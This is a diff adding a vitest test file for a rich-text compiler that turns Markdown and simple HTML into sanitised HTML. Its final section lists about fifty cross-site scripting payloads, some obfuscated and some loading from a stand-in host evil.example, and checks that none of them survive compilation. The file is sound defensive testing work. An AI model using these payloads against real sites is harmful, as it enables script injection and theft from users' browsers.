@@ -1,0 +1,174 @@
+import * as fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { compileRichText } from './rich-text';
+
+const html = (written: string | string[]): string => compileRichText(written).html((href) => ({ href }));
+
+describe('compileRichText', () => {
+  it('compiles Markdown, lines of a list joined', () => {
+    expect(html(['**Bold** words', '', '- one', '- two'])).toBe(
+      '<p><strong>Bold</strong> words</p>\n<ul>\n<li>one</li>\n<li>two</li>\n</ul>',
+    );
+  });
+
+  it('keeps simple HTML', () => {
+    expect(html('A<br>B <sup>2</sup> <a href="/x" title="t">y</a>')).toBe(
+      '<p>A<br>B <sup>2</sup> <a href="/x" title="t">y</a></p>',
+    );
+  });
+
+  it('makes nothing of nothing', () => {
+    expect(html('')).toBe('');
+    expect(html(['', ' '])).toBe('');
+  });
+
+  it('gives plain words the HTML that Markdown gives them', () => {
+    // A space that does not break ends no paragraph.
+    expect(html('a\n\u{a0}\nb')).toBe('<p>a\n\u{a0}\nb</p>');
+    const words = [
+      ...'ab .,:;!?()\'"’“”–…{}%@$^+-/0123\n\f\u{b}\u{a0}\u{2028}\u{3000}नि😀é',
+      '\n\n',
+      'word ',
+      ' \n',
+      '\n ',
+      '1. ',
+      '- ',
+    ];
+    const marks = [...'&<>*_`#~|=[]\\\t\r\0', '---', '    '];
+    const texts = [words, [...words, ...marks]].map((units) =>
+      fc.string({ unit: fc.constantFrom(...units), maxLength: 20 }),
+    );
+    fc.assert(
+      fc.property(fc.oneof(...texts), (text) => {
+        // An empty comment changes nothing in the HTML, but keeps the text from the short cut.
+        const long = html(`${text}\n\n<!-- -->`).trimEnd();
+        expect(html(text).trimEnd()).toBe(long);
+      }),
+      { seed: 7, numRuns: 3000, endOnFailure: true },
+    );
+  });
+
+  it('lists links as they were written, and lets the caller write each of them', () => {
+    const content = compileRichText(
+      '[a](/b) [c](whatsapp:Hello%20there) <a href="https://x.example/a%20b?c=%2525">d</a>',
+    );
+    expect(content.links).toEqual(['/b', 'whatsapp:Hello there', 'https://x.example/a%20b?c=%2525']);
+    const written = content.html((href) => ({
+      href: `${href}!`,
+      target: '_blank',
+      rel: 'noopener noreferrer',
+    }));
+    expect(written).toContain('<a href="/b!" target="_blank" rel="noopener noreferrer">a</a>');
+    expect(written).toContain('href="https://x.example/a%20b?c=%2525!"');
+  });
+
+  it('lists headings with their levels', () => {
+    expect(compileRichText('# A\n\n### B *c*\n\n<h5>d</h5>\n\nE\n---').headings).toEqual([
+      { level: 1, text: 'A' },
+      { level: 3, text: 'B c' },
+      { level: 5, text: 'd' },
+      { level: 2, text: 'E' },
+    ]);
+  });
+
+  it('names elements that it leaves out', () => {
+    expect(compileRichText('![a](b.png) <video></video> <p>x</p>').forbidden).toEqual(['img', 'video']);
+  });
+
+  it('refuses what is too long or nested too deep', () => {
+    expect(compileRichText('a'.repeat(60_001)).fault).toBe('too-long');
+    expect(compileRichText('> '.repeat(61) + 'a').fault).toBe('too-deep');
+    expect(compileRichText('<b>'.repeat(20_000)).fault).toBe('too-deep');
+    expect(compileRichText('> '.repeat(20) + 'a').fault).toBeUndefined();
+  });
+});
+
+const payloads = [
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](<java\tscript:alert(1)>)',
+  '[x](java&#10;script:alert(1))',
+  '[x](java&Tab;script:alert(1))',
+  '[x](&#106;avascript:alert(1))',
+  '[x](&#x6A;&#x61;vascript:alert(1))',
+  '[x](javascript&colon;alert(1))',
+  '[x](javascript://%0aalert(1))',
+  '[x](vbscript:msgbox(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '![x](javascript:alert(1))',
+  '<javascript:alert(1)>',
+  '[x]: javascript:alert(1)\n\n[x]',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="java\nscript:alert(1)">x</a>',
+  '<a href="&#1;javascript:alert(1)">x</a>',
+  '<a href="javascript&#58;alert(1)">x</a>',
+  '<a href=/x onclick=alert(1)>x</a>',
+  '<a href="/x" style="background:url(javascript:alert(1))">x</a>',
+  '<p onmouseover="alert(1)" style="position:fixed">x</p>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<style>@import "https://evil.example";</style>',
+  '<link rel=stylesheet href="https://evil.example">',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<base href="https://evil.example/">',
+  '<form action="javascript:alert(1)"><button>x</button></form>',
+  '<input onfocus=alert(1) autofocus>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
+  "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '`<script>`\n\n<b\n\nonclick=alert(1)>x',
+  '<video><source onerror=alert(1)></video>',
+  '<xss onpointerenter=alert(1) id=document name=cookie>x</xss>',
+];
+
+/** An opening tag as it is written here: every value between quotation marks. */
+const tag = /<([a-z][^\s/>]*)((?:\s+[^\s=>"]+(?:="[^"]*")?)*)\s*\/?>/gi;
+
+/** The opening tags of some HTML, with all of their attributes. */
+function tagsOf(written: string): { name: string; attributes: Record<string, string> }[] {
+  return [...written.matchAll(tag)].map(([, name = '', rest = '']) => ({
+    name: name.toLowerCase(),
+    attributes: Object.fromEntries(
+      [...rest.matchAll(/([^\s=]+)(?:="([^"]*)")?/g)].map(([, key = '', value = '']) => [key, value]),
+    ),
+  }));
+}
+
+const known = [
+  ...'p br hr strong b em i u s del small sub sup mark abbr cite q span a ul ol li dl dt dd'.split(' '),
+  ...'blockquote pre code h2 h3 h4 h5 h6 table thead tbody tr th td caption'.split(' '),
+];
+
+describe('The compiled HTML', () => {
+  it.each(payloads)('holds nothing that runs, for %s', (payload) => {
+    for (const text of [payload, `Words ${payload} words`, `- ${payload}`, `> **${payload}**`]) {
+      const written = html(text);
+      const tags = tagsOf(written);
+      expect(written.replaceAll(tag, '').replaceAll(/<\/[a-z0-9]+>/g, '')).not.toContain('<');
+      for (const { name, attributes } of tags) {
+        expect(known).toContain(name);
+        expect(['href', 'title', 'scope', 'start', 'lang']).toEqual(
+          expect.arrayContaining(Object.keys(attributes)),
+        );
+        expect(attributes['href'] ?? '').toMatch(/^(?:https:|mailto:|tel:|whatsapp:|[^:]*$)/);
+      }
+    }
+  });
+});
